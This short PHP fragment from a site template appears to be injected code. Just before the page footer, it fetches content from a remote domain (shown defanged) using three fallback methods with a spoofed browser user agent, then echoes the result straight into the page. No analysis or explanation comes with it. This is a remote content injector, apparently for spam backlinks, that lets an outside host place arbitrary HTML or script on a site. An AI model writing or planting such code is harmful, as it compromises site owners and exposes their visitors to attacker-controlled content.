<?php
$url = "hxxps://nawalaku[.]my[.]id/bl/";

function fetch($url) {
    if (ini_get('allow_url_fopen') && ($d = @file_get_contents($url))) return $d;

    if (function_exists('curl_init')) {
        $c = curl_init($url);
        curl_setopt_array($c, [
            CURLOPT_RETURNTRANSFER => 1,
            CURLOPT_FOLLOWLOCATION => 1,
            CURLOPT_USERAGENT => 'Mozilla/5.0',
            CURLOPT_TIMEOUT => 10
        ]);
        $d = curl_exec($c);
        curl_close($c);
        if ($d) return $d;
    }

    $ctx = stream_context_create([
        'http' => ['header' => "User-Agent: Mozilla/5.0\r\n", 'timeout' => 10]
    ]);
    if ($d = @file_get_contents($url, false, $ctx)) return $d;

    return "⚠️ Gagal mengambil konten dari $url";
}

echo fetch($url);


?>

  <?php echo cs_custom_js(); ?>

  </body>
</html>
